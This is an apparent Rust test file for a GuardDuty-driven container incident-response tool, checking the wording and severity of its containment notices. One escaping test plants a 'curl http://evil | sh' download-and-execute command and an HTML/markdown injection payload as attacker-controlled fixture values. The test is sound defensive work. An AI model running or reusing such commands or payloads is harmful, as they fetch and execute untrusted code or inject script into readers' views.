//! The wording pinned: decide's plans (built from the fixtures `decide/tests.rs` shares)
//! as people read them.

use super::*;
use chrono::Utc;
use shared::events::Envelope;
use shared::exec::{Executed, StepResult};
use shared::notify::Subject;

use crate::config::Config;
use crate::decide::tests::{
    breaker_tripped, config, contained_host, high, host, host_threat, mutated_fixture, on_host,
    quarantined, running, stopped_on, threat_from, with_severity, FINDING, QUARANTINE_SG,
};
use crate::decide::{respond, respond_host, screen};
use crate::parse::{intent, Intent};
use crate::sequence::tests::c;

fn worded(threat: &Threat, seen: &Observed, decided: Plan) -> Response {
    plan(threat, seen, decided)
}

/// A host finding's response to a host seen as `seen`, worded.
fn worded_host(seen: &Observed, c: &Config) -> Response {
    let t = host_threat();
    worded(&t, seen, respond_host(&t, seen, c))
}

/// The response's notification as if every step went as planned (notes as they say).
fn summarised(r: Response) -> Notice {
    let executed = Executed {
        results: r
            .decided
            .steps
            .iter()
            .map(|s| StepResult {
                action: s.action(),
                outcome: match s {
                    Step::Report(Report { notice: n, .. }) => n.outcome(),
                    _ => Outcome::Done,
                },
                subject: Subject::default(),
                error: None,
                made: vec![],
            })
            .collect(),
        failure: None,
    };
    summary(r, &executed, None).1
}

#[test]
fn a_contained_finding_is_titled_with_its_level_type_and_place() {
    let t = high();
    let r = worded(
        &t,
        &running(),
        respond(&t, &running(), &config(&[]), Utc::now()),
    );
    assert_eq!(r.notice.severity, Severity::High);
    assert!(r
        .notice
        .title
        .starts_with("High Execution:Runtime/ReverseShell in prod/web"));
    assert_eq!(
        r.notice.title,
        "High Execution:Runtime/ReverseShell in prod/web: isolate, snapshot, stop task, quarantine host"
    );
}

#[test]
fn the_stop_reason_starts_with_our_prefix_and_names_the_finding() {
    let plan = respond(&high(), &running(), &config(&[]), Utc::now());
    let Step::StopTask {
        finding_id,
        finding_type,
        ..
    } = &plan.steps[2]
    else {
        panic!()
    };
    let reason = stop_reason(finding_id, finding_type);
    assert!(reason.starts_with(STOP_REASON_PREFIX));
    assert!(reason.contains("c6c7e4a1f2b3d4e5a6b7c8d9e0f1a2b3"));
    assert!(reason.contains("Execution:Runtime/ReverseShell"));
    assert!(reason.len() <= 255);
}

#[test]
fn findings_only_reported_say_why_in_the_title_at_their_severity() {
    let screened = |t: &Threat, managed, c: &[(&'static str, &'static str)]| {
        let d = screen(t, managed, &config(c)).unwrap();
        worded(t, &Observed::default(), d).notice
    };
    let medium = threat_from("guardduty-docker-socket-medium.json", |_| {});
    let n = screened(&medium, true, &[]);
    assert_eq!(n.severity, Severity::Warning);
    assert!(n.title.contains("below MIN_SEVERITY"));
    assert!(
        n.description.ends_with(
            "**Decision:** Severity 5 is below MIN_SEVERITY (7), so this finding is only reported."
        ),
        "{}",
        n.description
    );
    let sample = threat_from("guardduty-sample-finding.json", |d| {
        d["severity"] = 8.into()
    });
    assert!(screened(&sample, true, &[])
        .title
        .contains("sample finding"));
    let n = screened(&high(), false, &[]);
    assert_eq!(n.severity, Severity::Info);
    assert!(n.title.contains("not opted in"));
    assert!(screened(
        &high(),
        true,
        &[
            ("FINDING_TYPES_ALLOW", "Execution:Runtime/"),
            ("FINDING_TYPES_DENY", "Execution:Runtime/ReverseShell"),
        ]
    )
    .title
    .contains("type denied"));
    assert!(
        screened(&high(), true, &[("FINDING_TYPES_ALLOW", "CryptoCurrency:")])
            .title
            .contains("not allowed")
    );
}

#[test]
fn unknown_and_held_tasks_say_why_in_the_title() {
    let t = high();
    let none = Observed::default();
    let r = worded(&t, &none, respond(&t, &none, &config(&[]), Utc::now()));
    assert!(r.notice.title.contains("task not found"));
    let c = config(&[("ACTION_EXCLUDE_SERVICES", "other, web")]);
    let r = worded(&t, &running(), respond(&t, &running(), &c, Utc::now()));
    assert_eq!(r.notice.severity, Severity::High);
    assert!(r.notice.title.contains("service excluded"));
    let c = config(&[("ACTION_EXCLUDE_TASK_FAMILIES", "web")]);
    let r = worded(&t, &running(), respond(&t, &running(), &c, Utc::now()));
    assert!(r.notice.title.contains("family excluded"));
    let r = worded_host(&none, &config(&[]));
    assert!(r.notice.title.contains("not in an opted-in cluster"));
}

#[test]
fn the_tripped_breaker_raises_a_critical_and_leaves_the_service_to_a_person() {
    let now = Utc::now();
    let seen = breaker_tripped(now);
    let plan = worded(&high(), &seen, respond(&high(), &seen, &config(&[]), now));
    assert_eq!(plan.notice.severity, Severity::Critical);
    assert!(plan.notice.title.contains("crash-loop breaker"));
    assert!(plan
        .notice
        .next_steps
        .iter()
        .any(|s| s.contains("scale service web to zero")));
    assert_eq!(plan.notice.details["recent_stops"], 3);
}

#[test]
fn the_health_floor_says_whether_it_held_the_task_or_was_overridden() {
    let c = config(&[("MIN_HEALTHY_TASKS", "3")]);
    let plan = worded(
        &high(),
        &running(),
        respond(&high(), &running(), &c, Utc::now()),
    );
    assert!(plan.notice.title.contains("health floor"));
    assert!(plan
        .notice
        .description
        .contains("below MIN_HEALTHY_TASKS (3)"));
    let t = with_severity(9.2);
    let plan = worded(&t, &running(), respond(&t, &running(), &c, Utc::now()));
    assert_eq!(plan.notice.severity, Severity::Critical);
    assert!(plan
        .notice
        .description
        .contains("Critical, so the task is stopped anyway"));
}

#[test]
fn a_redelivery_that_finds_everything_done_is_an_info_already_contained() {
    let seen = stopped_on(quarantined());
    let plan = worded(
        &high(),
        &seen,
        respond(&high(), &seen, &config(&[]), Utc::now()),
    );
    assert_eq!(plan.notice.severity, Severity::Info);
    assert!(plan.notice.title.contains("already contained"));

    let c = config(&[("QUARANTINE_SECURITY_GROUP", QUARANTINE_SG)]);
    let seen = on_host(contained_host());
    let plan = worded_host(&seen, &c);
    assert_eq!(plan.notice.severity, Severity::Info);
    assert!(plan.notice.title.contains("already contained"));
    assert!(plan.notice.description.contains(FINDING));
    // Each note says why it needed no call, and names the evidence kept earlier.
    let n = summarised(plan);
    let actions = &n.details["actions"];
    assert_eq!(actions[1]["action"], "snapshot-host");
    assert_eq!(actions[1]["why"], "Already taken for this finding.");
    assert_eq!(actions[1]["target"], "snap-1, snap-2");
    assert!(n.description.contains(&format!(
        "- quarantine-host : already_done (Host i-0abc123def4567890 is already DRAINING, outside any Auto Scaling group and tagged ecs-autopilot:quarantine={FINDING}.)"
    )), "{}", n.description);
}

#[test]
fn a_duplicate_finding_names_the_snapshots_taken_earlier() {
    let mut h = quarantined();
    h.snapshots = vec!["snap-1".into()];
    let seen = stopped_on(h);
    let plan = worded(
        &high(),
        &seen,
        respond(&high(), &seen, &config(&[]), Utc::now()),
    );
    let n = summarised(plan);
    assert_eq!(
        n.details["actions"][0]["why"],
        "Already taken for this finding."
    );
    assert_eq!(
        n.details["evidence_taken"]["snapshots"],
        serde_json::json!(["snap-1"])
    );
}

#[test]
fn an_instance_that_cannot_be_detached_says_its_state() {
    let mut seen = running();
    seen.host = Some(host("ACTIVE", Some(("prod", "Terminating:Wait"))));
    let plan = respond(&high(), &seen, &config(&[]), Utc::now());
    let Some(Step::Report(Report { notice: why, .. })) = plan.steps.last() else {
        panic!()
    };
    assert!(note(why).contains("Terminating:Wait"));
    assert_eq!(
        note(why),
        "The instance is Terminating:Wait in group prod-asg; only InService or Standby instances can be detached. If it is terminating, snapshot its volumes now or the evidence goes with it."
    );
}

#[test]
fn a_host_quarantined_for_an_earlier_finding_is_named_by_that_finding() {
    let mut h = host("DRAINING", Some(("prod", "InService")));
    h.quarantined_for = Some("earlier-finding".into());
    let seen = on_host(h);
    let plan = worded_host(&seen, &config(&[]));
    assert!(plan
        .notice
        .next_steps
        .iter()
        .any(|s| s.contains("ecs-autopilot:quarantine=earlier-finding")));
}

#[test]
fn a_host_finding_with_every_step_switched_off_says_nothing_was_done() {
    let c = config(&[("QUARANTINE_HOST", "false"), ("SNAPSHOT_VOLUMES", "false")]);
    let seen = on_host(host("ACTIVE", Some(("prod", "InService"))));
    let plan = worded_host(&seen, &c);
    assert!(plan.notice.title.contains("nothing done on the host"));
}

#[test]
fn attacker_controlled_runtime_fields_come_out_escaped() {
    let t = threat_from("guardduty-reverse-shell-ec2.json", |d| {
        d["service"]["runtimeDetails"]["process"]["name"] =
            "x`](http://evil)<img src=x onerror=alert(1)>\n@here *pwn*".into();
        d["service"]["runtimeDetails"]["context"]["commandLineExample"] =
            "curl http://evil | sh # [click](http://evil)".into();
    });
    let plan = worded(
        &t,
        &running(),
        respond(&t, &running(), &config(&[]), Utc::now()),
    );
    let record = serde_json::to_string(&plan.notice.details).unwrap();
    for raw in ["<img", "](", "`", "@here", "*pwn", "| sh", "[click"] {
        assert!(
            all_escaped(&plan.notice.description, raw),
            "{raw} in description"
        );
        assert!(all_escaped(&record, raw), "{raw} in the notice record");
    }
    assert!(plan.notice.description.contains(r"\<img"));
    assert!(!plan.notice.description.contains("\n@"));
}

/// Every occurrence of `raw` in `text` starts with a backslash-escaped character.
fn all_escaped(text: &str, raw: &str) -> bool {
    text.match_indices(raw)
        .all(|(at, _)| text[..at].ends_with('\\'))
}

/// The documented `AttackSequence:ECS/CompromisedCluster` example (tests/fixtures).
fn attack_sequence() -> SequenceThreat {
    let path = format!(
        "{}/../../tests/fixtures/guardduty-attack-sequence-ecs.json",
        env!("CARGO_MANIFEST_DIR")
    );
    let e = Envelope::parse_str(&std::fs::read_to_string(path).unwrap()).unwrap();
    match intent(&e).unwrap() {
        Intent::Sequence(s) => *s,
        other => panic!("{other:?}"),
    }
}

#[test]
fn a_first_delivery_that_contains_something_is_a_critical_contained_notice() {
    let (outcome, n) = sequence(
        &attack_sequence(),
        &[c("task", Outcome::Done), c("host", Outcome::AlreadyDone)],
    );
    assert_eq!(outcome, Outcome::Done);
    assert_eq!(n.severity, Severity::Critical);
    assert!(n.title.contains("AttackSequence:ECS/CompromisedCluster"));
    assert!(n.title.ends_with("contained"), "{}", n.title);
    assert!(n.description.contains("**Signals:**"));
    assert!(n.description.contains("- task task-1: done"));
    assert_eq!(n.details["containment"][1]["outcome"], "already_done");
    assert!(!n.details["sequence"]["signals"]
        .as_array()
        .unwrap()
        .is_empty());
}

#[test]
fn a_redelivery_finding_everything_contained_is_an_info_already_done_notice() {
    let (outcome, n) = sequence(
        &attack_sequence(),
        &[
            c("task", Outcome::AlreadyDone),
            c("host", Outcome::AlreadyDone),
        ],
    );
    assert_eq!(outcome, Outcome::AlreadyDone);
    assert_eq!(n.severity, Severity::Info);
    assert!(n.title.ends_with("already contained"), "{}", n.title);
}

#[test]
fn held_or_unmanaged_resources_leave_a_critical_notice_for_a_person() {
    // A task held by the health floor (skipped) after a host contained earlier is still
    // a repeat: nothing new was done.
    assert_eq!(
        sequence::outcome(&[c("task", Outcome::Skipped), c("host", Outcome::AlreadyDone)]),
        Outcome::AlreadyDone
    );
    let (outcome, n) = sequence(&attack_sequence(), &[c("task", Outcome::Skipped)]);
    assert_eq!(outcome, Outcome::Skipped);
    assert_eq!(n.severity, Severity::Critical);
    assert!(n.title.ends_with("needs a person"), "{}", n.title);
    let (outcome, n) = sequence(&attack_sequence(), &[]);
    assert_eq!(outcome, Outcome::Skipped);
    assert!(n.title.ends_with("no task or host named"), "{}", n.title);
}

#[test]
fn any_attack_sequence_shape_gets_one_notice_listing_every_resource_it_names() {
    let outcomes = [
        Outcome::Done,
        Outcome::AlreadyDone,
        Outcome::Skipped,
        Outcome::Warning,
        Outcome::Failed,
    ];
    let noticed = std::cell::Cell::new(0);
    shared::testing::strategies::check(
        "notices::sequence over mutated attack sequences",
        mutated_fixture("guardduty-attack-sequence-ecs.json"),
        |v| {
            let Ok(e) = Envelope::parse(v) else { return };
            let Ok(Intent::Sequence(s)) = intent(&e) else {
                return;
            };
            let named: Vec<(&'static str, String)> = s
                .tasks
                .iter()
                .map(|t| ("task", task_arn(&t.finding).unwrap_or_default().to_string()))
                .chain(s.hosts.iter().map(|h| ("host", h.clone())))
                .collect();
            let contained: Vec<Contained> = named
                .iter()
                .enumerate()
                .map(|(i, (kind, resource))| Contained {
                    kind,
                    resource: resource.clone(),
                    outcome: outcomes[(i + resource.len()) % outcomes.len()],
                })
                .collect();
            let (outcome, n) = sequence(&s, &contained);
            noticed.set(noticed.get() + 1);
            assert_eq!(
                n.details["containment"].as_array().map(Vec::len),
                Some(named.len())
            );
            assert_eq!(
                n.severity == Severity::Info,
                outcome == Outcome::AlreadyDone,
                "Critical unless a redelivery found everything contained"
            );
            assert!(n.title.chars().count() <= 400, "{}", n.title.len());
            assert!(!n.title.contains('\n'));
        },
    );
    assert!(noticed.get() > 0, "no mutated sequence reached the notice");
}
